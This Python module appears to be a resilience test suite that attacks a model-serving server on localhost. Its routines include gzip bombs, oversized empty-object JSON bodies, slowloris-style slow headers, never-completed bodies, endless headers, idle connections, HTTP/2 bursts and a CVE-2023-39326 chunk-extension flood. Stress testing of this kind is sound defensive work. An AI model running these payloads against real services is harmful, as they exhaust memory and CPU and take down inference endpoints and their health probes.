"""Attacks on the routes of REST, most of them over HTTP/1.1, and by connections that say nothing."""

import contextlib
import gzip
import socket

import http2_frames as h2
from front_attack import MIB, MODEL_STREAM_INFER, gzip_of_nothing


def empty_blocks_over_http(attack):
    one = attack.plain(attack.http_port)
    head = "GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    body = gzip_of_nothing(48 * MIB)
    attack.send(one, (head % len(body)).encode() + body)
    one.recv(1000)


def empty_objects_over_http(attack):
    """62.9 MB of JSON that is twenty million pictures without a member; protobuf's parser took 18 seconds."""
    one = attack.plain(attack.http_port)
    begin, end = b'{"model":"served","clip":{"frames":{"pictures":[', b"{}]}}}"
    middle = b"{}," * MIB
    length = len(begin) + 20 * len(middle) + len(end)
    head = "POST /v1/predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
    attack.send(one, (head % length).encode() + begin)
    for _ in range(20):
        attack.send(one, middle)
    attack.send(one, end)
    one.recv(1000)


def short_json_at_once(attack):
    """Bodies of about 100 bytes of compressed JSON: half of them 32 KiB of empty pictures, which would take 9 ms to parse, half as
    many as is allowed."""
    begin, end = b'{"model":"served","clip":{"frames":{"pictures":[{}', b"]}}}"
    bodies_at_once(attack, "/v1/predict", [gzip.compress(begin + b",{}" * count + end) for count in ((32 << 10) // 3 - 20, 120)])


def zeros_in_short_json(attack):
    """Bodies of about 200 bytes of compressed JSON that are a tensor of 65,536 zeros, which stand before its shape, so that they
    would be parsed twice, in 8 ms."""
    begin, end = b'{"inputs":[{"name":"x","data":[0', b'],"datatype":"UINT8","shape":[65536]}]}'
    bodies_at_once(attack, "/v2/models/served/infer", [gzip.compress(begin + b",0" * 65535 + end)])


def bodies_at_once(attack, path, bodies):
    """Sends 64 compressed bodies, these in turn. Two connections have a network thread each, or more."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
              ("content-type", "application/json"), ("content-encoding", "gzip")]
    streams = range(1, 65, 2)
    opened = [attack.connect(attack.http_port) for _ in range(2)]
    for connection in opened:
        connection.send(*(h2.head(stream, fields) + h2.data(stream, bodies[stream // 2 % len(bodies)]) for stream in streams))
    for connection in opened:
        for _ in streams:
            connection.until(h2.HEADERS)


def bodies_that_never_come(attack):
    """500 requests over HTTP/1.1 that announce 60 MB each."""
    head = b"POST /v2/models/served/infer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000000\r\n\r\n" + b"[" * 100
    for _ in range(500):
        with contextlib.suppress(ConnectionError):
            attack.send(attack.plain(attack.http_port), head)
    attack.wait(0.5)


def heads_byte_by_byte(attack, port=None, count=24):
    """Slow heads over HTTP/1.1, to the metrics port, on which probes depend."""
    opened = [attack.plain(port or attack.metrics_port) for _ in range(count)]
    for value in b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * 10_000:
        for one in list(opened):
            try:
                attack.send(one, bytes([value]))
            except OSError:
                opened.remove(one)
        if not opened or not attack.running():
            return
        attack.wait(0.5)


def silence(attack):
    """Connections that say nothing, to all ports."""
    for port in (attack.grpc_port, attack.http_port, attack.metrics_port):
        for _ in range(100):
            attack.plain(port)
    attack.wait_for_end()


def headers_without_end(attack):
    one = attack.plain(attack.http_port)
    attack.send(one, b"GET / HTTP/1.1\r\nHost: localhost\r\n")
    while attack.running():
        attack.send(one, b"A: b\r\n" * 1000)


def chunks_of_one_byte(attack):
    """CVE-2023-39326: each chunk of a byte has an extension of a kilobyte."""
    one = attack.plain(attack.http_port)
    attack.send(one, b"POST /v2/models/served/infer HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n")
    chunk = b"1;" + b"x" * 1000 + b"\r\n[\r\n"
    while attack.running():
        attack.send(one, chunk * 16)


def pipeline_that_nobody_reads(attack):
    one = attack.plain(attack.metrics_port)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    while attack.running():
        attack.send(one, b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100)


def bomb_over_http(attack):
    one = attack.plain(attack.http_port)
    bomb = h2.gzip_bomb(8600 * MIB)
    head = "POST /v2/models/served/infer HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    attack.send(one, (head % len(bomb)).encode() + bomb)
    one.recv(1000)


def chunk_that_is_none_after_a_bomb(attack):
    """The body is refused while its first message is still decompressed: the call answers after the request has ended."""
    message = h2.message(h2.gzip_bomb(2 * MIB), compressed=True)
    head = (f"POST {MODEL_STREAM_INFER} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/grpc-web+proto\r\ngrpc-encoding: gzip\r\n"
            f"Transfer-Encoding: chunked\r\n\r\n{len(message):x}\r\n")
    for _ in range(20):
        attack.send(attack.plain(attack.http_port), head.encode() + message + b"\r\nZZ\r\n")
    attack.wait(0.1)
